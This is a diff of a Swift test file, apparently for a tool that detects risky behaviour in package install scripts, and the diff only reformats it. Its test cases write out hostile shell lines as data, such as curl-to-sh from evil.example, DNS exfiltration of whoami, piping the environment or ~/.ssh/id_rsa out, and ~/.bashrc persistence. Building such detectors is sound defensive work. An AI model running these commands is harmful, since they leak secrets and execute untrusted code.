@@ -14,33 +14,35 @@ import Testing
         steps(script).compactMap { if case .behaviour(let behaviour) = $0 { behaviour } else { nil } }
     }
 
-    @Test(arguments: [
-        ("↓curl -fsSL https://evil.example/p.sh | sh", [BehaviourKind.useNetwork, .shellCommand]),
-        ("curl -fsSL https://evil.example/p.sh | ↓sh", [.downloadExecute]),
-        ("wget -O /tmp/x http://45.9.1.2/x && chmod +x /tmp/x && ↓/tmp/x", [.downloadExecute, .spawnProcess]),
-        ("echo aGk= > payload && ↓./payload", [.writeExecute, .spawnProcess]),
-        ("↓nslookup $(whoami).abc.oast.fun", [.dnsExfiltration]),
-        ("↓nslookup example.com", [.dnsLookup]),
-        ("↓env | curl -d @- https://x.example", [.readEnvironmentAll]),
-        ("↓nohup node server.js &", [.hiddenProcess]),
-        ("↓whoami; ↓uname -a", [.reconHost, .reconHost]),
-        ("echo x >> ↓~/.bashrc", [.persistence, .writeFile]),
-        ("↓crontab -l", [.persistence]),
-        ("↓eval \"$(curl -s https://x.example/s)\"", [.evalCode, .downloadExecute]),
-        ("↓bash -c 'curl -s http://x.example | bash'", [.shellCommand]),
-        ("cat ↓~/.ssh/id_rsa | base64", [.readCredentialPath]),
-        ("↓cat ~/.npmrc", [.readFile]),
-        ("curl ↓https://discord.com/api/webhooks/1/abc -d x", [.urlWebhook]),
-        ("echo ↓$NPM_TOKEN", [.readEnvironmentVariable]),
-        ("↓powershell -w hidden -c calc", [.spawnProcess, .hiddenProcess]),
-    ] as [(String, [BehaviourKind])])
+    @Test(
+        arguments: [
+            ("↓curl -fsSL https://evil.example/p.sh | sh", [BehaviourKind.useNetwork, .shellCommand]),
+            ("curl -fsSL https://evil.example/p.sh | ↓sh", [.downloadExecute]),
+            ("wget -O /tmp/x http://45.9.1.2/x && chmod +x /tmp/x && ↓/tmp/x", [.downloadExecute, .spawnProcess]),
+            ("echo aGk= > payload && ↓./payload", [.writeExecute, .spawnProcess]),
+            ("↓nslookup $(whoami).abc.oast.fun", [.dnsExfiltration]),
+            ("↓nslookup example.com", [.dnsLookup]),
+            ("↓env | curl -d @- https://x.example", [.readEnvironmentAll]),
+            ("↓nohup node server.js &", [.hiddenProcess]),
+            ("↓whoami; ↓uname -a", [.reconHost, .reconHost]),
+            ("echo x >> ↓~/.bashrc", [.persistence, .writeFile]),
+            ("↓crontab -l", [.persistence]),
+            ("↓eval \"$(curl -s https://x.example/s)\"", [.evalCode, .downloadExecute]),
+            ("↓bash -c 'curl -s http://x.example | bash'", [.shellCommand]),
+            ("cat ↓~/.ssh/id_rsa | base64", [.readCredentialPath]),
+            ("↓cat ~/.npmrc", [.readFile]),
+            ("curl ↓https://discord.com/api/webhooks/1/abc -d x", [.urlWebhook]),
+            ("echo ↓$NPM_TOKEN", [.readEnvironmentVariable]),
+            ("↓powershell -w hidden -c calc", [.spawnProcess, .hiddenProcess]),
+        ] as [(String, [BehaviourKind])])
     func commandsReportBehavioursAtTheirMarks(marked: String, kinds: [BehaviourKind]) {
         let source = SequenceMarkedText(marked)
         let found = Self.behaviours(source.text)
         for (index, kind) in kinds.enumerated() {
             let mark = source.marks[min(index, source.marks.count - 1)]
-            #expect(found.contains { $0.kind == kind && $0.line == mark.line && $0.column == mark.column },
-                    "\(kind) at \(mark) in \(source.text): \(found.map { "\($0.kind)@\($0.line):\($0.column)" })")
+            #expect(
+                found.contains { $0.kind == kind && $0.line == mark.line && $0.column == mark.column },
+                "\(kind) at \(mark) in \(source.text): \(found.map { "\($0.kind)@\($0.line):\($0.column)" })")
         }
     }
 
@@ -53,8 +55,9 @@ import Testing
     }
 
     @Test func interpretersHandOverFilesAndInlineCode() {
-        let steps = Self.steps("node scripts/install.js && node -e 'require(1)' && python3 -c \"import os\" "
-            + "&& python -m pkg.tool && sh ./setup.sh && npm run build && bash -c 'node x.js' && ts-node a.ts")
+        let steps = Self.steps(
+            "node scripts/install.js && node -e 'require(1)' && python3 -c \"import os\" "
+                + "&& python -m pkg.tool && sh ./setup.sh && npm run build && bash -c 'node x.js' && ts-node a.ts")
         let follow = steps.compactMap { step -> String? in
             switch step {
             case .runFile(let path, let interpreter, _, _): "file \(interpreter.rawValue) \(path)"
@@ -64,10 +67,11 @@ import Testing
             case .behaviour: nil
             }
         }
-        #expect(follow == [
-            "file node scripts/install.js", "inline javascript require(1) @37", "inline python import os @64",
-            "module pkg.tool", "file shell ./setup.sh", "script build", "file node x.js", "file node a.ts",
-        ])
+        #expect(
+            follow == [
+                "file node scripts/install.js", "inline javascript require(1) @37", "inline python import os @64",
+                "module pkg.tool", "file shell ./setup.sh", "script build", "file node x.js", "file node a.ts",
+            ])
     }
 
     @Test func encodedPowerShellIsDecoded() {
@@ -88,8 +92,9 @@ import Testing
     }
 
     @Test func positionsFollowTheOrigin() {
-        let origin = ShellOrigin(path: "package/package.json", line: 7, column: 20, context: .install,
-                                 lines: Array(repeating: "  \"postinstall\": \"whoami; id -u\"", count: 10))
+        let origin = ShellOrigin(
+            path: "package/package.json", line: 7, column: 20, context: .install,
+            lines: Array(repeating: "  \"postinstall\": \"whoami; id -u\"", count: 10))
         let found = ShellAnalyzer().analyse("whoami\nid -u", origin: origin)
             .compactMap { if case .behaviour(let b) = $0 { b } else { nil } }
         #expect(found.map { "\($0.line):\($0.column)" } == ["7:20", "8:1"])
